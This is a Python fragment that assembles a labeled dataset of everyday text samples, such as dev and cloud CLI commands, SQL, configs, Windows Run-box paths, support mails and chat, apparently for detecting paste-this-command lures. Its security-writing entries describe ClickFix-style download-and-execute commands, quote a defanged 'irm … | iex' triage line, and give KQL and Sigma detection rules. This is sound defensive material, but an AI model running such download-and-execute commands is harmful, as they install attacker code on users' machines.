            "kubectl events -n shop --for pod/shop-api-7c9f6d9b8-xk2lp --watch",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_cp/",
            "kubectl cp shop/shop-api-7c9f6d9b8-xk2lp:/tmp/heap.hprof ./heap.hprof",
        ),
        (
            "https://argo-cd.readthedocs.io/en/stable/user-guide/commands/argocd_app_sync/",
            "argocd app sync shop-prod --prune --timeout 300",
        ),
        ("https://k9scli.io/", "k9s -n shop --context aks-prod-weu"),
        (
            "https://git-scm.com/docs/git-remote",
            "git remote set-url origin git@github.com:acme-corp/shop-frontend.git && git remote -v",
        ),
        (
            "https://git-scm.com/docs/git-tag",
            "git tag -a v2.8.1 -m 'Hotfix: invoice rounding' && git push origin v2.8.1",
        ),
        (
            "https://git-scm.com/docs/git-submodule",
            "git submodule update --init --recursive --jobs 4",
        ),
        (
            "https://git-scm.com/docs/git-lfs",
            "git lfs install && git lfs track '*.psd' && git add .gitattributes",
        ),
        ("https://git-scm.com/docs/git-blame", "git blame -L 120,160 src/billing/invoice.py"),
        ("https://git-scm.com/docs/git-clean", "git clean -fdx -e .env"),
        ("https://git-scm.com/docs/git-diff", "git diff --stat origin/main...HEAD"),
        (
            "https://git-scm.com/docs/git-switch",
            "git switch -c feature/OPS-4821-retry-queue origin/main",
        ),
        (
            "https://cli.github.com/manual/gh_pr_checkout",
            "gh pr checkout 1842 && npm ci && npm test",
        ),
        (
            "https://cli.github.com/manual/gh_release_download",
            "gh release download v1.4.2 -R acme-corp/agent -p '*linux_amd64.tar.gz'",
        ),
        (
            "https://docs.aws.amazon.com/cli/latest/reference/logs/tail.html",
            "aws logs tail /aws/lambda/invoice-export --since 1h --follow --profile prod-readonly",
        ),
        (
            "https://docs.aws.amazon.com/cli/latest/reference/ecr/get-login-password.html",
            "aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com",
        ),
        (
            "https://docs.aws.amazon.com/cli/latest/reference/ssm/start-session.html",
            "aws ssm start-session --target i-0a1b2c3d4e5f67890 --profile prod-admin",
        ),
        (
            "https://learn.microsoft.com/en-us/cli/azure/webapp/log",
            "az webapp log tail --name shop-api-prod --resource-group rg-shop-prod",
        ),
        (
            "https://learn.microsoft.com/en-us/cli/azure/aks",
            "az aks get-credentials --resource-group rg-aks-prod --name aks-prod-weu --overwrite-existing",
        ),
        (
            "https://learn.microsoft.com/en-us/cli/azure/storage/blob",
            "az storage blob upload-batch -d '$web' -s ./dist --account-name shopstaticprod --overwrite",
        ),
        (
            "https://cloud.google.com/sdk/gcloud/reference/run/deploy",
            "gcloud run deploy invoice-api --image europe-west1-docker.pkg.dev/acme-prod/apps/invoice-api:1.9.0 --region europe-west1",
        ),
        (
            "https://developer.hashicorp.com/terraform/cli/commands/import",
            "terraform import aws_s3_bucket.static acme-static-site",
        ),
        (
            "https://developer.hashicorp.com/vault/docs/commands/kv/get",
            "vault kv get -field=password secret/shop/prod/db",
        ),
        (
            "https://docs.ansible.com/ansible/latest/command_guide/intro_adhoc.html",
            "ansible web -i inventory/prod -m ansible.builtin.service -a 'name=nginx state=restarted' --become",
        ),
        (
            "https://www.packer.io/docs/commands/build",
            "packer build -var-file=win2025.pkrvars.hcl windows-2025.pkr.hcl",
        ),
        ("https://docs.pytest.org/en/stable/how-to/cache.html", "pytest --lf -x -vv"),
        (
            "https://docs.npmjs.com/cli/v11/commands/npm-version",
            "npm version minor -m 'release: %s' && git push --follow-tags",
        ),
    ]
    for page, text in DEV2:
        add("dev-cli", TERM, page, text)

    SQL2 = [
        (
            "https://www.postgresql.org/docs/current/sql-vacuum.html",
            "VACUUM (VERBOSE, ANALYZE) public.order_items;",
        ),
        (
            "https://www.postgresql.org/docs/current/functions-admin.html",
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'shop' AND state = 'idle in transaction' AND now() - state_change > interval '10 minutes';",
        ),
        (
            "https://www.postgresql.org/docs/current/sql-createrole.html",
            "CREATE ROLE grafana_ro LOGIN PASSWORD '<set-me>' CONNECTION LIMIT 5;",
        ),
        (
            "https://www.postgresql.org/docs/current/datatype-json.html",
            "SELECT id, payload->>'email' AS email FROM webhook_events WHERE payload @> '{\"type\": \"invoice.paid\"}' ORDER BY id DESC LIMIT 50;",
        ),
        (
            "https://dev.mysql.com/doc/refman/8.4/en/optimize-table.html",
            "OPTIMIZE TABLE shop.order_log;",
        ),
        (
            "https://learn.microsoft.com/en-us/sql/t-sql/statements/alter-index-transact-sql",
            "ALTER INDEX ALL ON dbo.Orders REBUILD WITH (ONLINE = ON);",
        ),
        (
            "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/sp-who-transact-sql",
            "EXEC sp_who2 'active';",
        ),
        (
            "https://learn.microsoft.com/en-us/sql/t-sql/statements/restore-statements-transact-sql",
            "RESTORE DATABASE [Sales_Test] FROM DISK = N'E:\\Backup\\Sales_full.bak' WITH MOVE 'Sales' TO 'E:\\Data\\Sales_Test.mdf', MOVE 'Sales_log' TO 'E:\\Log\\Sales_Test.ldf', REPLACE;",
        ),
        (
            "https://www.sqlite.org/lang_attach.html",
            "ATTACH DATABASE 'archive-2025.db' AS arc; INSERT INTO main.events SELECT * FROM arc.events WHERE ts >= '2025-12-01';",
        ),
        (
            "https://duckdb.org/docs/data/csv/overview",
            "SELECT region, sum(amount) FROM read_csv_auto('sales_2026_*.csv') GROUP BY region ORDER BY 2 DESC;",
        ),
        (
            "https://docs.snowflake.com/en/sql-reference/functions/query_history",
            "SELECT query_text, total_elapsed_time/1000 AS s FROM TABLE(information_schema.query_history()) ORDER BY start_time DESC LIMIT 20;",
        ),
        (
            "https://www.postgresql.org/docs/current/sql-copy.html",
            "\\copy (SELECT * FROM invoices WHERE issued_on >= '2026-11-01') TO 'invoices_nov.csv' WITH CSV HEADER",
        ),
    ]
    for page, text in SQL2:
        add("sql", UNK, page, text)

    CONF2 = [
        (
            "https://docs.github.com/en/actions/how-tos/write-workflows/choose-when-workflows-run/trigger-a-workflow",
            "on:\n  schedule:\n    - cron: '17 3 * * 1'\n  workflow_dispatch:\n    inputs:\n      environment:\n        type: choice\n        options: [staging, production]",
        ),
        (
            "https://docs.github.com/en/code-security/dependabot/working-with-dependabot/dependabot-options-reference",
            "version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n    schedule:\n      interval: weekly\n    open-pull-requests-limit: 5",
        ),
        (
            "https://nginx.org/en/docs/http/configuring_https_servers.html",
            "server {\n    listen 443 ssl;\n    server_name shop.example.org;\n    ssl_certificate     /etc/letsencrypt/live/shop.example.org/fullchain.pem;\n    ssl_certificate_key /etc/letsencrypt/live/shop.example.org/privkey.pem;\n    ssl_protocols TLSv1.2 TLSv1.3;\n}",
        ),
        (
            "https://prometheus.io/docs/prometheus/latest/configuration/configuration/",
            "scrape_configs:\n  - job_name: node\n    scrape_interval: 30s\n    static_configs:\n      - targets: ['web01:9100', 'web02:9100', 'db01:9100']",
        ),
        (
            "https://docs.fluentbit.io/manual/pipeline/inputs/tail",
            "[INPUT]\n    Name   tail\n    Path   /var/log/nginx/access.log\n    Tag    nginx.access\n[OUTPUT]\n    Name   es\n    Match  nginx.*\n    Host   es01.internal",
        ),
        (
            "https://www.haproxy.com/documentation/haproxy-configuration-manual/latest/",
            "backend shop_api\n    balance roundrobin\n    option httpchk GET /health\n    server api1 10.20.5.11:8000 check\n    server api2 10.20.5.12:8000 check",
        ),
        (
            "https://eslint.org/docs/latest/use/configure/configuration-files",
            "export default [\n  { files: ['**/*.ts'], rules: { 'no-console': 'warn', eqeqeq: 'error' } },\n];",
        ),
        (
            "https://docs.pydantic.dev/latest/concepts/pydantic_settings/",
            "class Settings(BaseSettings):\n    database_url: str\n    redis_url: str = 'redis://localhost:6379/0'\n    model_config = SettingsConfigDict(env_file='.env')",
        ),
        (
            "https://www.postgresql.org/docs/current/auth-pg-hba-conf.html",
            "# TYPE  DATABASE  USER     ADDRESS         METHOD\nhost    shop      shop     10.20.5.0/24    scram-sha-256\nhost    all       grafana_ro 10.20.9.14/32 scram-sha-256",
        ),
        (
            "https://learn.microsoft.com/en-us/aspnet/core/fundamentals/configuration/",
            '{\n  "Logging": { "LogLevel": { "Default": "Information", "Microsoft.AspNetCore": "Warning" } },\n  "ConnectionStrings": { "Sales": "Server=sql01;Database=Sales;Trusted_Connection=True;TrustServerCertificate=True" }\n}',
        ),
        (
            "https://tmuxcheatsheet.com/",
            "set -g mouse on\nset -g history-limit 50000\nbind r source-file ~/.tmux.conf \\; display 'reloaded'",
        ),
        (
            "https://starship.rs/config/",
            "[git_branch]\nsymbol = \" \"\n\n[python]\nformat = 'via [${symbol}${pyenv_prefix}(${version} )(\\($virtualenv\\) )]($style)'",
        ),
    ]
    for page, text in CONF2:
        add("config-snippet", UNK, page, text)

    JS2 = [
        ("https://developer.chrome.com/docs/devtools/console/utilities", "queryObjects(Promise)"),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Document/querySelector",
            "document.querySelector('[data-testid=\"checkout-button\"]').disabled",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Window/matchMedia",
            "matchMedia('(prefers-color-scheme: dark)').matches",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Navigator/userAgentData",
            "navigator.userAgentData?.brands.map(b => `${b.brand} ${b.version}`)",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/IndexedDB_API",
            "indexedDB.databases().then(dbs => console.table(dbs))",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/PerformanceNavigationTiming",
            "const [nav] = performance.getEntriesByType('navigation'); nav.domContentLoadedEventEnd - nav.startTime",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Element/scrollIntoView",
            "document.getElementById('pricing').scrollIntoView({behavior: 'smooth'})",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Document/title",
            "document.title = '[DEV] ' + document.title",
        ),
        ("https://angular.dev/tools/devtools", "ng.getComponent($0)"),
        (
            "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/JSON/stringify",
            "JSON.stringify(window.__APP_CONFIG__, null, 2)",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Element/attributes",
            "[...$0.attributes].map(a => `${a.name}=\"${a.value}\"`).join(' ')",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Cache",
            "caches.keys().then(keys => Promise.all(keys.map(k => caches.delete(k))))",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Window/devicePixelRatio",
            "`${innerWidth}x${innerHeight} @${devicePixelRatio}x`",
        ),
        (
            "https://developer.chrome.com/docs/devtools/console/utilities",
            "getEventListeners(document.querySelector('form#login'))",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/fetch",
            "await fetch('/api/v2/cart', {method: 'DELETE', credentials: 'same-origin'}).then(r => r.status)",
        ),
    ]
    for page, text in JS2:
        add("console-js", CON, page, text)

    RUN2 = [
        (
            RUN,
            "https://learn.microsoft.com/en-us/mem/configmgr/core/plan-design/hierarchy/log-files",
            "C:\\Windows\\CCM\\Logs",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/mem/intune/apps/intune-management-extension",
            "%ProgramData%\\Microsoft\\IntuneManagementExtension\\Logs",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/troubleshoot/windows-client/deployment/windows-update-logs",
            "C:\\Windows\\SoftwareDistribution\\Download",
        ),
        (
            RUN,
            "https://support.microsoft.com/en-us/office/onedrive-sync-logs",
            "%localappdata%\\Microsoft\\OneDrive\\logs\\Business1",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/microsoftteams/log-files",
            "%userprofile%\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\Logs",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/open-windows-tools-in-windows-11.2433/",
            "shell:::{D20EA4E1-3957-11d2-A40B-0C5020524153}",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/create-god-mode-shortcut-in-windows-11.1089/",
            "shell:::{ED7BA470-8E54-465E-825C-99712043E01C}",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:bluetooth",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:workplace",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:signinoptions",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:printers",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:regionlanguage",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:appsfeatures-app",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:windowsdefender",
        ),
        (
            RUN,
            "https://www.tenforums.com/tutorials/4189-open-system-properties-windows-10-a.html",
            "SystemPropertiesAdvanced",
        ),
        (
            RUN,
            "https://www.tenforums.com/tutorials/7087-open-local-users-groups-windows-10-a.html",
            "lusrmgr.msc",
        ),
        (
            RUN,
            "https://www.tenforums.com/tutorials/111117-open-computer-management-windows-10-a.html",
            "compmgmt.msc",
        ),
        (RUN, "https://www.thewindowsclub.com/resource-monitor-windows", "resmon"),
        (
            RUN,
            "https://www.elevenforum.com/t/open-windows-features-in-windows-11.3412/",
            "optionalfeatures",
        ),
        (
            RUN,
            "https://www.howtogeek.com/how-to-use-the-windows-credential-manager/",
            "control keymgr.dll",
        ),
        (RUN, "https://helpdesk.contoso.com/kb/0107-open-the-hr-share", "\\\\fs01\\HR\\Forms"),
        (RUN, "https://helpdesk.contoso.com/kb/0108-install-printers", "\\\\print01\\HP-3rd-Floor"),
        (
            EXP,
            "https://helpdesk.contoso.com/kb/0109-where-are-my-scans",
            "\\\\nas01\\scans\\%USERNAME%",
        ),
        (
            EXP,
            "https://support.microsoft.com/en-us/office/restore-a-previous-version-of-a-file",
            "%userprofile%\\OneDrive - Contoso\\Documents\\Budget",
        ),
        (
            EXP,
            "https://www.howtogeek.com/find-your-screenshots-folder-windows/",
            "%userprofile%\\Pictures\\Screenshots",
        ),
        (
            EXP,
            "https://learn.microsoft.com/en-us/windows/wsl/filesystems",
            "\\\\wsl$\\Ubuntu-24.04\\home",
        ),
        (
            EXP,
            "https://helpdesk.contoso.com/kb/0113-project-templates",
            "P:\\Templates\\Project Charter",
        ),
        (
            EXP,
            "https://www.elevenforum.com/t/open-shell-folders-in-file-explorer-windows-11.1080/",
            "shell:Local AppData",
        ),
    ]
    for target, page, text in RUN2:
        if text.startswith("control "):
            continue  # a Control Panel applet with an argument is more than a program name (by spec)
        add("runbox-howto", target, page, text)
    RUN3 = [
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:nightlight",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:sound-devices",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:network-vpn",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:startupapps",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:recovery",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:dateandtime",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:powersleep",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:mousetouchpad",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:camera",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
            "ms-settings:about",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/list-of-shell-commands-in-windows-11.1080/",
            "shell:Quick Launch",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/list-of-shell-commands-in-windows-11.1080/",
            "shell:PrintersFolder",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/list-of-shell-commands-in-windows-11.1080/",
            "shell:NetHood",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/list-of-shell-commands-in-windows-11.1080/",
            "shell:Recent",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/list-of-shell-commands-in-windows-11.1080/",
            "shell:Templates",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/list-of-shell-commands-in-windows-11.1080/",
            "shell:UserProfiles",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/list-of-shell-commands-in-windows-11.1080/",
            "shell:Cache",
        ),
        (
            RUN,
            "https://www.elevenforum.com/t/list-of-shell-commands-in-windows-11.1080/",
            "shell:Libraries",
        ),
        (
            RUN,
            "https://www.tenforums.com/tutorials/3123-clsid-key-guid-shortcuts-list-windows-10-a.html",
            "shell:::{26EE0668-A00A-44D7-9371-BEB064C98683}",
        ),
        (
            RUN,
            "https://www.thewindowsclub.com/open-print-management-windows",
            "printmanagement.msc",
        ),
        (RUN, "https://www.thewindowsclub.com/windows-memory-diagnostic-tool", "mdsched"),
        (RUN, "https://www.thewindowsclub.com/character-map-windows", "charmap"),
        (RUN, "https://www.thewindowsclub.com/open-on-screen-keyboard-windows", "osk"),
        (RUN, "https://www.howtogeek.com/how-to-use-the-windows-10-steps-recorder/", "psr"),
        (RUN, "https://www.howtogeek.com/how-to-open-the-directx-diagnostic-tool/", "dxdiag"),
        (RUN, "https://www.thewindowsclub.com/wf-msc-windows-firewall-advanced-security", "wf.msc"),
        (RUN, "https://www.thewindowsclub.com/open-device-manager-windows", "hdwwiz.cpl"),
        (RUN, "https://www.thewindowsclub.com/sound-control-panel-windows", "mmsys.cpl"),
        (RUN, "https://www.thewindowsclub.com/open-internet-options-windows", "inetcpl.cpl"),
        (RUN, "https://www.thewindowsclub.com/open-mouse-properties", "main.cpl"),
        (RUN, "https://support.microsoft.com/en-us/office/", "%appdata%\\Microsoft\\Signatures"),
        (RUN, "https://support.microsoft.com/en-us/office/", "%appdata%\\Microsoft\\UProof"),
        (
            RUN,
            "https://learn.microsoft.com/en-us/troubleshoot/windows-client/",
            "%SystemRoot%\\Minidump",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/troubleshoot/windows-client/",
            "C:\\Windows\\Logs\\DISM",
        ),
        (
            EXP,
            "https://www.elevenforum.com/t/open-shell-folders-in-file-explorer-windows-11.1080/",
            "shell:Camera Roll",
        ),
        (
            EXP,
            "https://www.elevenforum.com/t/open-shell-folders-in-file-explorer-windows-11.1080/",
            "shell:Screenshots",
        ),
        (
            EXP,
            "https://www.howtogeek.com/where-are-chrome-bookmarks-stored/",
            "%localappdata%\\Google\\Chrome\\User Data\\Default",
        ),
        (
            EXP,
            "https://support.mozilla.org/en-US/kb/profiles-where-firefox-stores-user-data",
            "%appdata%\\Mozilla\\Firefox\\Profiles",
        ),
        (EXP, "https://learn.microsoft.com/en-us/windows/deployment/", "C:\\Windows\\Panther"),
        (
            EXP,
            "https://helpdesk.contoso.com/kb/0121-invoice-archive",
            "\\\\fs01\\Finance\\Invoices\\2026",
        ),
        (
            EXP,
            "https://helpdesk.contoso.com/kb/0122-marketing-assets",
            "\\\\fs02\\Marketing\\Brand Assets\\Logos",
        ),
        (EXP, "https://www.minecraft.net/en-us/article/", "%appdata%\\.minecraft\\saves"),
        (
            RUN,
            "https://support.microsoft.com/en-us/office/customize-how-excel-starts",
            "%appdata%\\Microsoft\\Excel\\XLSTART",
        ),
        (
            RUN,
            "https://support.zoom.com/hc/en/article?id=zm_kb&sysparm_article=KB0062663",
            "%appdata%\\Zoom\\logs",
        ),
        (RUN, "https://slack.com/help/articles/360002113568", "%localappdata%\\Slack\\logs"),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/win32/wer/collecting-user-mode-dumps",
            "%localappdata%\\CrashDumps",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/defender-endpoint/collect-diagnostic-data",
            "%ProgramData%\\Microsoft\\Windows Defender\\Support",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows/win32/eventlog/eventlog-key",
            "%SystemRoot%\\System32\\winevt\\Logs",
        ),
        (
            RUN,
            "https://learn.microsoft.com/en-us/windows-server/administration/openssh/openssh_keymanagement",
            "%userprofile%\\.ssh",
        ),
        (
            RUN,
            "https://code.visualstudio.com/docs/setup/windows",
            "%localappdata%\\Programs\\Microsoft VS Code",
        ),
        (
            RUN,
            "https://support.microsoft.com/en-us/office/outlook-secure-temp-folder",
            "%localappdata%\\Microsoft\\Windows\\INetCache\\Content.Outlook",
        ),
        (
            RUN,
            "https://support.microsoft.com/en-us/windows/sticky-notes-backup",
            "%localappdata%\\Packages\\Microsoft.MicrosoftStickyNotes_8wekyb3d8bbwe\\LocalState",
        ),
        (
            RUN,
            "https://www.tenforums.com/tutorials/3123-clsid-key-guid-shortcuts-list-windows-10-a.html",
            "shell:::{7007ACC7-3202-11D1-AAD2-00805FC1270E}",
        ),
        (
            EXP,
            "https://helpx.adobe.com/acrobat/kb/acrobat-preferences-location.html",
            "%appdata%\\Adobe\\Acrobat\\DC",
        ),
        (
            EXP,
            "https://learn.microsoft.com/en-us/microsoft-edge/extensions/",
            "%localappdata%\\Microsoft\\Edge\\User Data\\Default\\Extensions",
        ),
        (
            EXP,
            "https://www.autodesk.com/support/technical/article/",
            "%appdata%\\Autodesk\\AutoCAD 2026",
        ),
        (
            EXP,
            "https://help.steampowered.com/en/faqs/view/",
            "C:\\Program Files (x86)\\Steam\\steamapps\\common",
        ),
        (
            EXP,
            "https://helpdesk.contoso.com/kb/0130-signed-contracts",
            "\\\\fs01\\Legal\\Contracts\\Signed\\2026",
        ),
        (EXP, "https://helpdesk.contoso.com/kb/0131-timesheets", "T:\\Timesheets\\2026\\KW49"),
    ]
    for target, page, text in RUN3:
        add("runbox-howto", target, page, text)
    TYPED2 = [
        (RUN, "C:\\Tools\\Procmon\\Procmon64.exe"),
        (RUN, "%userprofile%\\Downloads\\Invoice_2026-118.pdf"),
        (RUN, "https://intranet.contoso.com/it/status"),
        (RUN, "\\\\fs01\\Projects\\2026\\Atlas"),
        (RUN, "onenote"),
        (RUN, "mspaint"),
        (EXP, "C:\\Users\\kfischer\\AppData\\Roaming\\Code\\User"),
        (EXP, "D:\\Backups\\Outlook\\archive-2025.pst"),
        (EXP, "\\\\nas01\\media\\Fotos\\2026"),
        (RUN, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"),
    ]
    for target, text in TYPED2:
        add("runbox-typed", target, None, text)

    SEC2 = [
        (
            "https://www.microsoft.com/en-us/security/blog/",
            "Microsoft Threat Intelligence observed a ClickFix variant that stages its payload through DNS: the lure runs nslookup against an attacker-controlled server and executes the text returned in the answer.",
        ),
        (
            "https://www.huntress.com/blog",
            "The NexShield extension mimics uBlock Origin Lite, waits an hour, then exhausts browser resources until it crashes; on restart a 'CrashFix' dialog asks the user to run a repair command.",
        ),
        (
            "https://cleanbrowsing.org/articles/",
            "Protective DNS helps here because the lure's infrastructure rotates faster than blocklists propagate: blocking newly observed domains at resolution time cuts the chain before the second stage.",
        ),
        (
            "https://www.sophos.com/en-us/blog",
            "Across the campaigns we tracked, the most common first command was PowerShell with a hidden window and Invoke-RestMethod piped to Invoke-Expression, followed by mshta with a remote HTA.",
        ),
        (
            "https://www.trendmicro.com/en_us/research.html",
            "Lures now use fake Google Meet and Zoom 'microphone check' pages; the clipboard payload is customised per OS, with a curl | zsh command for macOS visitors.",
        ),
        (
            "https://intranet.contoso.com/security/news/2026-12",
            "Last week a colleague received a Teams message from 'IT support' asking to enter a code at microsoft.com/devicelogin. This is device code phishing. IT will never ask you for such a code. Report via the Report button.",
        ),
        (
            "https://intranet.contoso.com/security/news/2026-11",
            "Warnung vor Fake-Buchungsseiten: Rezeptionen erhalten Mails von angeblichen Gästen mit Link zu einer Booking.com-Kopie. Dort wird man aufgefordert, Windows+R zu drücken. Bitte sofort schließen und die IT informieren.",
        ),
        (
            "https://learn.microsoft.com/en-us/defender-endpoint/attack-surface-reduction-rules-reference",
            "Block execution of potentially obfuscated scripts (GUID 5beb7efe-fd9a-4556-801d-275e5ffc04cc) helps against pasted PowerShell that hides its download cradle behind string concatenation or encoding.",
        ),
        (
            "https://learn.microsoft.com/en-us/defender-xdr/advanced-hunting-overview",
            'DeviceProcessEvents\n| where FileName =~ "finger.exe" or ProcessCommandLine has "finger "\n| where InitiatingProcessFileName in~ ("cmd.exe", "explorer.exe", "conhost.exe")\n| summarize count() by DeviceName, ProcessCommandLine',
        ),
        (
            "https://learn.microsoft.com/en-us/defender-xdr/advanced-hunting-overview",
            'DeviceProcessEvents\n| where FileName =~ "conhost.exe" and ProcessCommandLine has "--headless"\n| where ProcessCommandLine has_any ("powershell", "cmd", "mshta")',
        ),
        (
            "https://github.com/SigmaHQ/sigma",
            "title: Nslookup TXT Query Piped To Command Interpreter\ndetection:\n  selection:\n    Image|endswith: '\\nslookup.exe'\n    CommandLine|contains:\n      - '-q=txt'\n      - '-type=txt'\n  filter_parent:\n    ParentImage|endswith: '\\cmd.exe'\n  condition: selection and filter_parent",
        ),
        (
            "https://www.elastic.co/guide/en/security/current/",
            'process where host.os.type == "macos" and event.type == "start" and process.name in ("bash", "zsh", "sh") and process.parent.name == "Terminal" and process.args : "*curl*" and process.args : "*base64*"',
        ),
        (
            "https://www.reddit.com/r/macsysadmin/",
            "Heads up: users are getting a fake 'Homebrew' page through search ads. The copy button gives a /bin/bash -c \"$(curl …)\" line but the domain isn't brew.sh. Tell people to type brew.sh themselves.",
        ),
        (
            "https://www.bleepingcomputer.com/",
            "The ConsentFix page asks the target to sign in with their Microsoft account and then paste the resulting localhost address back into the page, handing over an authorization code that the attackers exchange for tokens.",
        ),
        (
            "https://jira.contoso.com/browse/SEC-2240",
            "Triage: RunMRU on LT-FIN-0231 shows 'conhost --headless powershell … irm hxxps://…[.]top/r | iex' at 10:02. EDR blocked child process. Password reset done, no persistence found. Closing as contained.",
        ),
    ]
    for page, text in SEC2:
        add("security-writing", UNK, page, text)

    SUP2 = [
        (
            "https://mail.contoso.com/",
            "Hi Mark, the replacement screen for your laptop arrives Wednesday. The courier (DPD) will call ahead; if you're working from home that day, please tell us at servicedesk@contoso.com or on 0161 496 0123.",
        ),
        (
            "https://mail.contoso.com/",
            "Hallo Frau Yilmaz, Ihre Rufnummer wurde ins neue Telefonsystem übernommen. Ihre Durchwahl bleibt -418. Bei Problemen: IT-Hotline 089 555 7000.",
        ),
        (
            "https://mail.contoso.com/",
            "Bonjour à tous, la maintenance du serveur de messagerie aura lieu samedi de 22h à 2h. Astreinte informatique joignable au 04 55 50 88 12 en cas d'urgence.",
        ),
        (
            "https://mail.contoso.com/",
            "Ciao a tutti, da lunedì il numero dell'helpdesk cambia: 02 555 0300 (interno 300). Il vecchio numero resterà attivo fino a fine mese.",
        ),
        (
            "https://mail.contoso.com/",
            "Hej allihop! Skrivaren på plan 4 är lagad. Fortsätter problemen, ring IT på 08-555 000 12 eller skapa ett ärende i portalen.",
        ),
        (
            "https://www.ups.com/us/en/support/contact-us.page",
            "UPS customer service: 1-800-742-5877. For questions about a specific shipment, have your tracking number ready.",
        ),
        (
            "https://www.amazon.com/gp/help/customer/contact-us",
            "Amazon will never ask you to call a phone number from an unexpected email or text to cancel an order. Use the Your Orders page or the Amazon app to check order status.",
        ),
        (
            "https://www.lenovo.com/us/en/contact/",
            "Lenovo Premier Support: 1-855-253-6686. Have your machine type and serial number (found on the bottom of the device) ready.",
        ),
        (
            "https://mail.contoso.com/",
            "Hi Priya, your new desk phone is set up. Voicemail PIN is your employee number; change it at first login. Questions? Call the telecoms team on +1 (312) 555-0118.",
        ),
        (
            "https://mail.contoso.com/",
            "Dear parents, the school office number has changed to 01632 960 512. The absence line (01632 960 513) is open from 7:30 am.",
        ),
        (
            "https://www.dhl.de/de/privatkunden/hilfe-kundenservice.html",
            "DHL Kundenservice: 0228 4333112 (Mo–Fr 8–18 Uhr, Sa 8–14 Uhr). Bitte halten Sie Ihre Sendungsnummer bereit.",
        ),
        (
            "https://mail.contoso.com/",
            "Estimados, les recordamos que el teléfono de guardia de sistemas durante las fiestas es el 600 555 123. Solo para incidencias críticas.",
        ),
    ]
    for page, text in SUP2:
        add("support-mail", UNK, page, text)

    CHAT2 = [
        "did anyone else get logged out of Jira just now or is it me",
        "I'm going to rotate the staging DB password at 15:00, update your .env after",
        "Kurze Info: Ich bin heute ab 15 Uhr beim Zahnarzt, bin morgen wieder erreichbar.",
        "the release notes draft is in the wiki, comments welcome until Thursday",
        "pinging @oncall: queue depth on invoice-export is at 12k and climbing",
        "Qualcuno ha il cavo HDMI della sala riunioni piccola?",
        "thanks! merged, will go out with tonight's deploy",
        "remember to submit your timesheets before 5pm",
        "Podemos cambiar la daily a las 9:45 mañana? Tengo médico a las 9.",
        "the VPN profile needs to be reimported after the cert change, guide is in #it-help",
        "Je serai en retard de 10 minutes, commencez sans moi",
